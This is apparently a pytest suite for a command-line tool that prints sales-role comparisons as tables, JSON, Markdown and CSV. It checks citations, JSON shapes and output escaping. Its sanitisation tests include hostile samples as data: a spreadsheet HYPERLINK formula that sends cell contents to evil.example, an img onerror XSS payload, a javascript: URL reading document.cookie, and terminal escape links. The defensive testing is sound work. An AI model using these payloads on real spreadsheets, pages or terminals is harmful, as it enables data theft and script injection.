"""What each format prints: tables, JSON, Markdown and CSV, their shapes and their citations;
dataset text kept literal in every one."""

from __future__ import annotations

import csv
import io
import json
import os
import sys
from pathlib import Path
from typing import Any, get_type_hints

import jsonschema
import pytest
from markdown_it import MarkdownIt

from salesroles import results
from salesroles.models import DIMENSIONS
from salesroles.render import csv as csv_out
from salesroles.render import json as json_out
from salesroles.render import markdown, shapes, table
from salesroles.render.json import OUTPUT_VERSION

from .conftest import FIXTURE, ROOT, run, write
from .helpers import (
    ARGUMENTS,
    COMMANDS,
    ENV,
    GOLDEN,
    HOSTILE,
    HOSTILE_DATASET,
    MINIMAL,
    dataset,
    real,
    role,
    small,
)


def html(text: str) -> str:
    return MarkdownIt("commonmark").enable("table").render(text)


RENDERERS = {
    "table": table.build,
    "json": json_out.to_json,
    "markdown": markdown._lines,
    "csv": csv_out._rows,
}


@pytest.mark.parametrize(
    ("args", "golden"),
    [
        (small("compare", "lead", "chief"), "small_compare.txt"),
        (small("compare", "lead", "chief", "--detail"), "small_compare_detail.txt"),
        (small("show", "chief", "--detail"), "small_show_detail.txt"),
        (small("compare", "seller", "lead", "chief", "--only", "scope,focus"), "small_three.txt"),
        (small("show", "chief"), "small_show.txt"),
        (small("list"), "small_list.txt"),
        (small("career", "lead"), "small_career.txt"),
        (small("career", "seller", "--to", "chief"), "small_path.txt"),
        (small("which", "Sr. Field Seller EMEA", "Chief Risk Officer"), "small_which.txt"),
        (small("sources"), "small_sources.txt"),
    ],
)
def test_layouts_match_the_golden_files_at_80_columns(args: list[str], golden: str) -> None:
    result = run(*args)
    assert result.exit_code == 0, result.stderr
    path = GOLDEN / golden
    if os.environ.get("UPDATE_GOLDEN"):
        path.write_text(result.stdout, encoding="utf-8")
    assert result.stdout == path.read_text(encoding="utf-8")


# Every command with an output format, from the registry, and what its answer over the
# starter dataset must show a reader (a role's id in each format; titles where words are).
FORMATTED = [c for c in COMMANDS if "<table|json|markdown|csv>" in run(*c, "--help").stdout]
SHOWS = {
    ("list",): ["enterprise-ae", "team-lead", "area-vp"],
    ("show",): ["team-lead"],
    ("compare",): ["team-lead", "area-vp"],
    ("career",): ["enterprise-ae", "area-vp"],
    ("search",): ["enterprise-ae"],
    ("which",): ["team-lead"],
    ("sources",): ["team-lead", "handbook"],
    ("advise",): ["enterprise-ae"],
}
TITLES = {"enterprise-ae": "Enterprise Account Executive", "team-lead": "Sales Team Lead",
          "area-vp": "Area Vice President", "handbook": "Our sales career handbook"}  # fmt: skip


@pytest.fixture(scope="module")
def starter_file(tmp_path_factory: pytest.TempPathFactory) -> str:
    path = tmp_path_factory.mktemp("starter") / "starter.toml"
    assert run("data", "init", str(path)).exit_code == 0
    return str(path)


def test_every_formatted_command_says_what_it_shows() -> None:
    assert sorted(FORMATTED) == sorted(SHOWS)


@pytest.mark.parametrize("command", FORMATTED, ids=" ".join)
@pytest.mark.parametrize("fmt", ["table", "json", "markdown", "csv"])
def test_every_command_prints_what_it_is_about_in_every_format(
    command: tuple[str, ...], fmt: str, starter_file: str
) -> None:
    args = [a.format(data=starter_file) for a in ARGUMENTS[command]]
    result = run("--data", starter_file, *command, *args, "--format", fmt)
    assert result.exit_code == 0, result.stderr
    out = result.stdout
    flat = " ".join(out.split())
    for shown in SHOWS[command]:
        if fmt == "json":
            assert f'"{shown}"' in out, shown  # an id, as a value a script can read
        elif fmt == "csv":
            rows = list(csv.reader(io.StringIO(out)))
            assert len({len(row) for row in rows}) == 1  # rectangular
            assert any(shown in cell or TITLES[shown] in cell for row in rows[1:] for cell in row)
        else:
            assert shown in flat or TITLES[shown] in flat, (shown, out)
    if fmt == "json":
        assert json.loads(out)["schema_version"] == OUTPUT_VERSION
    if fmt == "table":
        assert all(line == line.rstrip() for line in out.splitlines())


@pytest.mark.parametrize("command", FORMATTED, ids=" ".join)
def test_json_is_short_for_format_json(command: tuple[str, ...], starter_file: str) -> None:
    args = ["--data", starter_file, *command, *ARGUMENTS[command]]
    assert run(*args, "--json").stdout == run(*args, "--format", "json").stdout


def test_every_point_in_a_table_carries_a_marker_and_the_sources_are_numbered() -> None:
    out = run(*small("show", "lead", "--detail")).stdout
    assert "• Runs one team. [1][2]" in out
    assert "[1] Official Occupation Survey, Statistics Office, 2024." in out
    assert "https://stats.example.org/survey" in out
    assert "Vendor Glossary, Acme CRM (vendor blog)." in out
    assert "One Seller's Blog, 2021 (practitioner's view)." in out


@pytest.mark.parametrize("detail", [[], ["--detail"]], ids=["glance", "detail"])
def test_no_sources_hides_markers_and_the_list(detail: list[str]) -> None:
    out = run(*small("compare", "lead", "chief", "--no-sources", *detail)).stdout
    assert "[1]" not in out and "Sources" not in out
    assert "Runs one team." in out and "Runs one team. [" not in out


def test_markdown_cites_with_footnotes() -> None:
    glance = run(*small("show", "chief", "--format", "markdown")).stdout
    assert "| **Scope** | **company** · The whole company.[^1] |" in glance
    out = run(*small("show", "chief", "--format", "markdown", "--detail")).stdout
    assert "- The whole company.[^1]" in out
    assert "[^1]: Vendor Glossary, Acme CRM (vendor blog)." in out
    assert (
        "[^2]: Official Occupation Survey, Statistics Office, 2024. <https://stats.example.org/survey>"
        in out
    )


def test_csv_has_a_sources_column() -> None:
    for detail in ([], ["--detail"]):
        out = run(*small("show", "lead", "-f", "csv", *detail)).stdout
        rows = list(csv.reader(io.StringIO(out)))
        assert rows[0] == ["role", "dimension", "value", "sources"]
        scope = next(r for r in rows if r[1] == "scope")
        assert scope[2].splitlines()[-1] in ("team · Runs one team.", "Runs one team.")
        assert scope[3].splitlines() == ["Official Occupation Survey, Statistics Office, 2024",
                                         "Vendor Glossary, Acme CRM"]  # fmt: skip


def test_json_points_have_their_sources_and_a_top_level_map() -> None:
    data = json.loads(run(*small("show", "lead", "--json")).stdout)
    assert data["dimensions"]["scope"] == {
        "level": "team",
        "headline": None,  # the small dataset writes none: the glance shows its first point
        "points": [{"text": "Runs one team.", "sources": ["stats", "glossary"], "kind": "core"}],
    }
    assert data["sources"]["glossary"]["kind"] == "vendor-blog"
    assert data["role"]["summary"] == {
        "text": "Leads a team of sellers.",
        "sources": ["stats"],
        "kind": "core",
    }


def test_bundled_json_every_point_cites_a_listed_source() -> None:
    for listed_role in json.loads(run("list", "--json").stdout)["roles"]:
        data = json.loads(run("show", listed_role["id"], "--json").stdout)
        listed = set(json.loads(run("sources", "--json").stdout)["sources"])
        for value in data["dimensions"].values():
            for point in (value or {}).get("points", []):
                assert point["sources"], (listed_role["id"], point)
                assert set(point["sources"]) <= listed
                assert set(point["sources"]) <= set(data["sources"])


def test_compare_json_shape() -> None:
    data = json.loads(run(*small("compare", "lead", "chief", "--all", "--json")).stdout)
    assert [r["id"] for r in data["roles"]] == ["lead", "chief"]
    assert list(data["dimensions"]) == list(DIMENSIONS)
    scope = data["dimensions"]["scope"]
    assert (scope["values"]["lead"]["level"], scope["values"]["chief"]["level"]) == (
        "team",
        "company",
    )
    comp = data["dimensions"]["compensation"]
    assert comp["values"]["lead"] is None  # not covered: null, never invented
    assert comp["values"]["chief"]["figures"][0]["covers"] == "Every chief seller in the survey."
    assert [c["topic"] for c in data["differences"]] == ["Horizon", "Reach"]
    assert data["differences"][0]["sources"] == [data["differences"][0]["sources"][0]]
    assert data["disagreements"][0]["positions"][1] == {
        "text": "Only the quarter.",
        "sources": ["blog"],
    }


def test_markup_in_a_dataset_is_shown_literally(tmp_path: Path) -> None:
    text = MINIMAL.replace("Sells.", "[bold red]Sells[/] \\u001b[31m").replace(
        '[[roles.career]]\nto = ["{target}"]\nkind = "promotion"\nsource = "Our handbook"\n', ""
    )
    path = write(tmp_path, text)
    result = run("--data", path, "show", "ae")
    assert result.exit_code == 0, result.stderr
    assert "[bold red]Sells[/] \\x1b[31m" in result.stdout
    assert "\x1b" not in result.stdout
    json_out = run("--data", path, "show", "ae", "--json").stdout
    assert "\\u001b[31m" in json_out  # JSON keeps the exact text


@pytest.mark.parametrize("fmt", ["table", "markdown", "csv"])
@pytest.mark.parametrize(
    "args", [["show", "boss"], ["compare", "boss", "clerk"], ["search", "boss"]]
)
def test_hostile_text_is_shown_literally_and_made_harmless(
    tmp_path: Path, fmt: str, args: list[str]
) -> None:
    result = run("--data", write(tmp_path, HOSTILE_DATASET), *args, "--format", fmt)
    assert result.exit_code == 0, result.stderr
    out = result.stdout
    if fmt == "markdown":  # what a reader sees is the Markdown as rendered
        from markdown_it import MarkdownIt

        html = MarkdownIt("commonmark").enable("table").render(out)
        assert "<strong>" not in html.split("Boss")[0] or "[bold red]Boss[/] [/]" in html
        assert "[bold red]Boss[/] [/]" in html  # markup is text, never Markdown either
        assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
        assert "\\x1b[31mred" in html and "\\u202eevil" in html
        return
    assert "[bold red]Boss[/] [/]" in out  # markup is text
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert "\\x1b[31mred" in out and "\\u202eevil" in out


def test_json_keeps_hostile_text_exactly(tmp_path: Path) -> None:
    result = run("--data", write(tmp_path, HOSTILE_DATASET), "show", "boss", "--json")
    data = json.loads(result.stdout)
    assert data["role"]["summary"]["text"] == HOSTILE
    assert [p["text"] for p in data["dimensions"]["metrics"]["points"]] == [HOSTILE]


def test_career_json_is_flat_and_each_move_names_the_move_it_follows() -> None:
    data = json.loads(run("--data", str(FIXTURE), "career", "chief", "--json").stdout)
    assert [(m["from"], m["depth"], m["after"]) for m in data["comes_from"]] == [
        ("lead", 1, None),
        ("seller", 2, 0),
    ]


def test_markdown_keeps_o_star_net_literal() -> None:
    out = run("show", "director", "--format", "markdown", "--detail").stdout
    rendered = html(out)
    assert "<em>O</em>" not in rendered and "O*NET" in rendered


def test_a_newline_in_a_point_never_breaks_a_table_or_makes_a_heading(tmp_path: Path) -> None:
    roles = [role("a", scope={"points": [{"text": "line one\n# Heading\n| x |", "source": "s"}]}),
             role("b")]  # fmt: skip
    path = tmp_path / "nl.toml"
    path.write_text(dataset(roles), encoding="utf-8")
    out = run("--data", str(path), "compare", "a", "b", "--format", "markdown").stdout
    rendered = html(out)
    assert "<h1>" not in rendered
    assert rendered.count("<tr>") == 1 + 8  # the header and the eight rows of the glance
    assert "line one # Heading | x |" in rendered


@pytest.mark.parametrize("kind", results.RESULTS, ids=lambda k: k.__name__)
@pytest.mark.parametrize("fmt", list(RENDERERS))
def test_every_result_type_has_a_renderer_in_every_format(kind: type, fmt: str) -> None:
    assert kind in RENDERERS[fmt].registry  # type: ignore[attr-defined]


def test_the_json_output_version_is_the_one_the_schema_publishes() -> None:
    assert json_out.OUTPUT_VERSION == 3  # version 3: headlines, kinds, differences
    schema = json.loads(run("schema").stdout)
    assert schema["$defs"]["ListOutput"]["properties"]["schema_version"] == {"const": 3}
    assert json.loads(run("list", "--json").stdout)["schema_version"] == 3


# --- JSON a script can rely on: one shape everywhere ------------------------------

# Every command's --json output, each at least once (both of career's and which's).
EVERY_OUTPUT: dict[str, list[list[str]]] = {
    "list": [["list"]],
    "show": [["show", "director"], ["show", "cro", "--detail"], ["show", "cso", "--only",
                                                                  "budget,career,focus"]],
    "compare": [["compare", "vp", "cro"], ["compare", "head", "director", "--all", "--detail"],
                ["compare", "rep", "cso", "--diff"], ["compare", "manager", "rsm", "vp"]],
    "career": [["career", "rep"], ["career", "director"], ["career", "rep", "--to", "cro"],
               ["career", "cro", "--to", "rep"]],
    "search": [["search", "quota"], ["search", "tenure"]],
    "which": [["which", "SVP Sales EMEA", "CRO", "Chief Risk Officer", "drector", "Director",
               "Head"], ["which", "--from", "{sheet}", "--column", "Job Title"]],
    "sources": [["sources"], ["sources", "vp"]],
    "advise": [["advise", "--size", "mid", "--horizon", "long", "--scope", "company"],
               ["advise", "--size", "founding", "--horizon", "short", "--scope", "team",
                "--budget", "no", "--team", "no"]],
}  # fmt: skip
CASES = [(command, args) for command, runs in EVERY_OUTPUT.items() for args in runs]
# Objects whose keys are data (source ids, role ids, dimension names, question names),
# not field names.
MAPS = {"sources", "dimensions", "values", "headlines", "answers"}
# Keys that name two things, each in its own place (any other key has one JSON type):
SAME_NAME = {
    "dimensions": "show and compare: by dimension name; a difference: the names it is about",
    "comes_from": "career ROLE: the tree's lines; a career value: role ids",
    "leads_to": "career ROLE: the tree's lines; a career value: role ids",
    "value": "advise: a role's value, a word or a list of them",
    "level": "which: the level words kept (SVP, Area); scope and budget: the level",
}


def outputs(tmp_path: Path) -> list[tuple[str, list[str], Any]]:
    sheet = tmp_path / "titles.csv"
    sheet.write_text("Name,Job Title\nAda,VP Sales\nBo,Chief Risk Officer\n", encoding="utf-8")
    found = []
    for command, args in CASES:
        result = run(*(str(sheet) if a == "{sheet}" else a for a in args), "--json")
        assert result.exit_code == 0, (args, result.stderr)
        found.append((command, args, json.loads(result.stdout)))
    return found


def kind_of(value: Any) -> str:
    if isinstance(value, dict):
        return "object"
    if isinstance(value, list):
        inner = sorted({kind_of(v) for v in value})
        return f"list of {' or '.join(inner)}" if inner else "list"
    return {str: "string", bool: "boolean", int: "number", float: "number"}.get(type(value), "null")


def broken_rules(data: dict[str, Any], kinds: dict[str, set[str]]) -> list[str]:
    """What in one output breaks the JSON rules; each key's kinds are added to ``kinds``."""
    problems: list[str] = []
    cited = data.get("sources") if isinstance(data.get("sources"), dict) else None

    def walk(value: Any, at: str, is_map: bool = False) -> None:
        if isinstance(value, list):
            for k, item in enumerate(value):
                walk(item, f"{at}[{k}]")
            return
        if not isinstance(value, dict):
            return
        if value == {} and not is_map:
            problems.append(f"{at}: {{}} (absent is null)")
        for key, item in value.items():
            where = f"{at}.{key}"
            if is_map:
                walk(item, where)
                continue
            top = at == ""
            if key == "source":
                problems.append(f"{where}: a single source (every citation is `sources`)")
            elif key == "sources" and top:
                if not all(isinstance(s, dict) and {"title", "kind"} <= set(s) for s in
                           item.values()):  # fmt: skip
                    problems.append(f"{where}: the top-level sources map by id")
            elif key == "sources":
                if not isinstance(item, list) or not all(isinstance(s, str) for s in item):
                    problems.append(f"{where}: a list of source ids")
                elif cited is not None and not set(item) <= set(cited):
                    problems.append(f"{where}: cites {set(item) - set(cited)}, not in the map")
            elif key in ("role", "roles"):
                refs = item if key == "roles" else [item] if item is not None else []
                if not isinstance(refs, list) or not all(
                    isinstance(r, dict) and isinstance(r.get("id"), str)
                    and isinstance(r.get("title"), str) for r in refs
                ):  # fmt: skip
                    problems.append(f"{where}: a role is {{id, title}} (or null)")
            elif key == "title" and not isinstance(item, str):
                problems.append(f"{where}: a title is a string")
            elif key == "titles" and not all(isinstance(t, dict) for t in item):
                problems.append(f"{where}: titles are objects")
            if not (top and key == "sources") and item is not None and item != []:
                kinds.setdefault(key, set()).add(kind_of(item))
            walk(item, where, is_map=key in MAPS and isinstance(item, dict))

    walk(data, "")
    return problems


def test_every_json_output_keeps_the_rules(tmp_path: Path) -> None:
    """One shape everywhere: citations are `sources` lists (the top-level `sources` a map
    by id), a role is {id, title}, a title is text and `titles` are objects, an absent
    value is null (never {} or missing), and a key has one JSON type in every output."""
    assert set(EVERY_OUTPUT) == set(shapes.COMMANDS)  # a new command must be added here
    kinds: dict[str, set[str]] = {}
    problems = []
    for _, args, data in outputs(tmp_path):
        problems += [f"{' '.join(args)}: {p}" for p in broken_rules(data, kinds)]
    assert problems == []
    two_kinds = {key for key, found in kinds.items() if len(found) > 1}
    assert two_kinds - set(SAME_NAME) == set(), {k: kinds[k] for k in two_kinds}


def test_the_rules_catch_what_they_should() -> None:
    kinds: dict[str, set[str]] = {}
    bad = {
        "schema_version": 3,
        "hits": [{"role": "vp", "source": "s1", "value": {}}],
        "titles": ["VP Sales"],
        "sources": {"s2": {"id": "s2"}},
    }
    assert len(broken_rules(bad, kinds)) == 5  # role, source, {}, titles, the map
    broken_rules({"steps": ["a"], "more": {"steps": [{"from": "x"}]}}, kinds)
    assert kinds["steps"] == {"list of string", "list of object"}


def test_each_output_validates_against_its_commands_schema(tmp_path: Path) -> None:
    schemas = {c: json.loads(run("schema", c).stdout) for c in shapes.COMMANDS}
    for command, args, data in outputs(tmp_path):
        jsonschema.validate(data, schemas[command])
        others = [c for c in schemas if c != command and set(shapes.COMMANDS[c]).isdisjoint(
            shapes.COMMANDS[command])]  # fmt: skip
        for other in others:  # and no other command's
            assert not jsonschema.Draft202012Validator(schemas[other]).is_valid(data), (
                args, other)  # fmt: skip


def test_every_dimension_has_its_shape_and_an_absent_one_is_null() -> None:
    assert set(get_type_hints(shapes.ShownDimensions)) == set(DIMENSIONS)
    assert set(get_type_hints(shapes.ComparedDimensions)) == set(DIMENSIONS)
    shown = json.loads(run("show", "cso", "--json").stdout)["dimensions"]
    assert list(shown) == list(DIMENSIONS)  # every one asked for, null where not covered
    assert shown["budget"] is None and shown["career"] is None  # no source says
    assert shown["focus"]["horizon"] == "long"
    vp = json.loads(run("show", "vp", "--json").stdout)["dimensions"]
    assert (vp["focus"]["horizon"], vp["focus"]["orientation"]) == (None, None)  # unsupported
    assert vp["budget"]["level"] is None
    compared = json.loads(run("compare", "vp", "cso", "--json").stdout)["dimensions"]
    assert compared["budget"]["values"] == {"vp": compared["budget"]["values"]["vp"],
                                            "cso": None}  # fmt: skip
    career = compared["career"]["values"]["vp"]
    assert set(career) == {"comes_from", "leads_to", "headline", "points"}


# --- output that cannot be turned against its reader ------------------------------------

FORMULAS = ROOT / "tests" / "fixtures" / "formulas.toml"  # every text starts a formula
CSV_ARGUMENTS = {
    ("list",): [],
    ("show",): ["boss", "--detail"],
    ("compare",): ["boss", "clerk", "--detail", "--all"],
    ("career",): ["clerk", "--to", "boss"],
    ("search",): ["1"],
    ("which",): ["=1+1", "-"],
    ("sources",): [],
    ("advise",): ["--size", "large", "--horizon", "long", "--scope", "company", "--budget", "yes"],
}
TYPED = '=HYPERLINK("https://evil.example/?"&A1,"Click")\n@SUM(A1:A9)\n-2+3\n+cmd\n\t=tab\n'


def test_every_csv_command_has_formula_arguments() -> None:
    assert sorted(CSV_ARGUMENTS) == sorted(FORMATTED)


@pytest.mark.parametrize("command", FORMATTED, ids=" ".join)
def test_no_csv_cell_starts_a_formula(command: tuple[str, ...]) -> None:
    """OWASP's rule for CSV injection: no cell begins with =, +, -, @, tab or carriage
    return, whether the text came from the dataset or from `which -`'s input."""
    args = ["--data", str(FORMULAS), *command, *CSV_ARGUMENTS[command], "--format", "csv"]
    result = run(*args, input=TYPED)
    assert result.exit_code == 0, result.stderr
    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
    assert any(cell.startswith("'") for cell in cells)  # the hostile text is there, quoted
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []


def test_the_formula_rule_is_written_once() -> None:
    """render/csv.py and spreadsheet.py (which --from) share one function for it."""
    from salesroles import spreadsheet

    source = (ROOT / "src" / "salesroles" / "render" / "csv.py").read_text(encoding="utf-8")
    assert "csv_safe" in source and "startswith" not in source
    assert csv_out.safe_cell("=1+1") == spreadsheet.csv_safe("=1+1") == "'=1+1"
    assert csv_out.safe_cell("\r=1") == "\\x0d=1"  # made visible, so no formula either


SLIPPED = {  # URLs that validation refuses, as if one had slipped past it
    "html": "https://ok.example/a> <img src=x onerror=alert(1)>",
    "script": "javascript:alert(document.cookie)",
    "escapes": "https://ok.example/\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07",
}


@pytest.mark.parametrize("args", [["show", "boss"], ["sources"], ["sources", "boss"],
                                  ["compare", "boss", "clerk"]], ids=" ".join)  # fmt: skip
@pytest.mark.parametrize("url", SLIPPED.values(), ids=SLIPPED.keys())
def test_a_url_is_escaped_on_output_even_past_validation(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, args: list[str], url: str
) -> None:
    from salesroles.dataset import check

    checked = check.check_references
    monkeypatch.setattr(
        check,
        "check_references",
        lambda d, **kw: [p for p in checked(d, **kw) if p.loc[-1] != "url"],
    )
    text = FORMULAS.read_text(encoding="utf-8")
    path = write(tmp_path, text.replace('"https://ok.example/a"', json.dumps(url)))
    for fmt in ("markdown", "table", "csv"):
        result = run("--data", path, *args, "--format", fmt)
        assert result.exit_code == 0, result.stderr
        assert "\x1b" not in result.stdout and "\x07" not in result.stdout
        if fmt == "markdown":  # as a CommonMark renderer (raw HTML on) shows it
            rendered = html(result.stdout)
            assert "<img" not in rendered
            assert "<javascript:" not in result.stdout  # markdown-it refuses it; not all do
            links = rendered.split(' href="')[1:]
            assert all(link.startswith("https://ok.example/") for link in links), links


def test_json_is_indented_at_a_terminal_and_one_line_when_piped() -> None:
    import pexpect

    piped = real(["show", "director", "--json"])
    assert piped.stdout.count("\n") == 1 and json.loads(piped.stdout)["role"]["id"] == "director"
    child = pexpect.spawn(sys.executable, ["-m", "salesroles", "list", "--json", "--no-pager"],
                          env={**ENV, "NO_COLOR": "1"}, encoding="utf-8", timeout=30)  # fmt: skip
    child.expect(pexpect.EOF)
    assert '{\r\n  "schema_version": 3,' in str(child.before)
